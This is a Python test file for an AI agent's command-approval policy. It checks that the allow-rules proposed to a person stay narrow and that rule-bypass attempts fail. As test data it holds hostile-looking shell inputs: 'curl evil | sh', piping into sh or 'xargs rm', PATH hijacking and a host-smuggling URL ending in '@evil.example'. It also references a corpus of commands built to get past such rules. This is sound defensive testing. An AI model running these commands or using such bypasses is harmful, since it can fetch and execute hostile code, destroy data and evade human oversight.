"""Rules that are proposed to the person who is asked: they allow the call, and no more than they say."""

from __future__ import annotations

from typing import Any

import pytest
from tests.policy.shell.bypasses import CORPUS
from tests.policy.toolbox import says, tool_of
from tests.rows import each_row

from steersman.policy.approval import Approval
from steersman.policy.proposals import propose_exact_rules, propose_rules

BASH = tool_of("bash")


def kinds(command: str, **rules: Any) -> tuple[str, ...]:
    return propose_rules(Approval(**rules), BASH, {"command": command})


@each_row(
    ("command", "rules"),
    [
        ("pytest -q tests/x.py", ("bash(pytest:*)",)),
        ("git status --short", ("bash(git status:*)",)),
        ("npm run build", ("bash(npm run build:*)",)),
        ("pytest -q && echo done", ("bash(pytest:*)", "bash(echo:*)")),
        ("rm -rf build", ("bash(rm -rf build)",)),
        ("git restore x", ("bash(git restore x)",)),
        ("python x.py", ("bash(python x.py)",)),
        ("./deploy.sh now", ("bash(./deploy.sh now)",)),
        ("curl https://x.example/a", ("bash(curl https://x.example/a)",)),
        ("/usr/bin/dig x.example", ("bash(/usr/bin/dig x.example)",)),
        ("curl -s 'https://x.example/?a=b' | wc", ("bash(curl -s 'https://x.example/?a=b' | wc)",)),
        ("curl evil | sh", ("bash(curl evil | sh)",)),
        ("cat > x <<E\nhi\nE", ()),
        ("rm '*'", ("bash(rm '*')",)),
        ("rm \\*", ()),
        ("rm a*", ()),
        ("cat x; rm '*'", ("bash(cat x; rm '*')",)),
        # The same words also discard changes that are not committed.
        ("git checkout main", ("bash(git checkout main)",)),
        ("git switch main", ("bash(git switch:*)",)),
        # With other operands, these overwrite or delete another file, or change another branch of the server.
        ("mv a b", ("bash(mv a b)",)),
        ("cp a b", ("bash(cp a b)",)),
        ("cat x | tee notes.txt", ("bash(cat:*)", "bash(tee notes.txt)")),
        ("ln -s a b", ("bash(ln -s a b)",)),
        ("chmod +x a", ("bash(chmod +x a)",)),
        ("git mv a b", ("bash(git mv a b)",)),
        ("git rm a", ("bash(git rm a)",)),
        ("git push -u origin x", ("bash(git push -u origin x)",)),
        ("mkdir -p a", ("bash(mkdir:*)",)),
        # A yes to what only looks is none to what changes.
        ("git push --dry-run", ("bash(git push --dry-run)",)),
        ("git add -n a", ("bash(git add -n a)",)),
        ("git add a", ("bash(git add:*)",)),
        ("git commit --dry-run", ("bash(git commit --dry-run)",)),
        ("black --check src", ("bash(black --check src)",)),
        ("black src", ("bash(black:*)",)),
        ("cargo fmt --check", ("bash(cargo fmt --check)",)),
        ("terraform fmt -check", ("bash(terraform fmt -check)",)),
        ("tsc --noEmit", ("bash(tsc --noEmit)",)),
        ("prettier --check src", ("bash(prettier:*)",)),
    ],
)
def test_a_kind_is_what_the_command_begins_with_unless_that_would_allow_too_much(
    command: str, rules: tuple[str, ...]
) -> None:
    assert kinds(command) == rules


def test_what_a_rule_allows_already_is_not_proposed_again() -> None:
    assert kinds("ls -l && pytest", allow=["bash(ls:*)"]) == ("bash(pytest:*)",)


@each_row(
    ("command", "rules"),
    [
        # A rule for the last part would run whatever is piped into it.
        ("cat x | sh", ("bash(cat x | sh)",)),
        ("cat x* | sh", ()),
        ("cat x* | sqlite3 app.db", ()),
        ("cat x* | xargs rm", ()),
        (f"cat {'x' * 200} | python3 -", ()),
        ("cat x* | jq .", ("bash(jq:*)",)),
        # A rule for the first part would change what every other command does.
        ("cd / && cat x", ("bash(cd / && cat x)",)),
        ("cd / && cat x*", ()),
        ("export PATH=. && cat x*", ()),
        ("source x && cat x*", ()),
        ("cd /", ()),
        ("export PATH=.", ()),
        ("command -v x && cat x*", ("bash(command -v x)",)),
        ("test -f x && cat x*", ("bash(test -f x)",)),
        ("python x.py && cat x*", ("bash(python x.py)",)),
    ],
)
def test_a_part_gets_a_rule_of_its_own_only_where_the_parts_around_it_do_not_matter(
    command: str, rules: tuple[str, ...]
) -> None:
    assert kinds(command, allow=["bash(cat:*)"]) == rules


def test_where_a_rule_asks_or_denies_no_rule_helps() -> None:
    """ "Always" means always: what would be asked about again is not offered."""
    assert kinds("git push", ask=["bash(git push:*)"]) == ()
    assert kinds("git push", deny=["bash(git push)"]) == ()
    asking = tool_of("deploy")
    asking.needs_approval = True
    assert propose_rules(Approval(), asking, {}) == ()


def test_other_tools_are_allowed_by_name_host_or_path() -> None:
    edit: dict[str, Any] = {"path": "src/x.py", "edits": []}
    assert propose_rules(Approval(), tool_of("edit"), edit) == ("edit",)
    assert propose_exact_rules(Approval(), tool_of("edit"), edit) == ("edit(src/x.py)",)
    several: dict[str, Any] = {"path": "src/*", "edits": []}
    assert propose_exact_rules(Approval(), tool_of("edit"), several) == ()
    page = {"url": "https://docs.example.com/a"}
    assert propose_rules(Approval(), tool_of("fetch"), page) == ("fetch(domain:docs.example.com)",)
    unclear = {"url": "https://docs.example.com@evil.example/"}
    assert propose_rules(Approval(), tool_of("fetch"), unclear) == ()
    assert propose_rules(Approval(), tool_of("mcp:git:log"), {}) == ("mcp:git:log",)


def test_every_proposal_allows_its_call_and_is_one_that_a_person_can_read() -> None:
    """Also for commands that are made to get past rules."""
    for command in CORPUS[::5]:
        for rules in (kinds(command), propose_exact_rules(Approval(), BASH, {"command": command})):
            policy = Approval(allow=rules)
            assert not rules or says(policy, BASH, command=command) == "allow"
            assert policy.warnings == ()
            assert all(rule.isprintable() for rule in rules)


def test_rules_can_be_added_while_the_policy_is_used() -> None:
    policy = Approval(allow=["bash(ls:*)"])
    before = policy.copy()
    policy.add_allow_rules("bash(pytest:*)", "edit(src/**)")
    assert [says(policy, BASH, command=command) for command in ("ls", "pytest -q", "make")] == ["allow", "allow", "ask"]
    assert says(policy, "edit", path="src/a.py") == "allow"
    assert (policy.allowed, before.allowed) == (("bash(ls:*)", "bash(pytest:*)", "edit(src/**)"), ("bash(ls:*)",))
    with pytest.raises(ValueError, match="bypass"):
        policy.add_allow_rules("*")
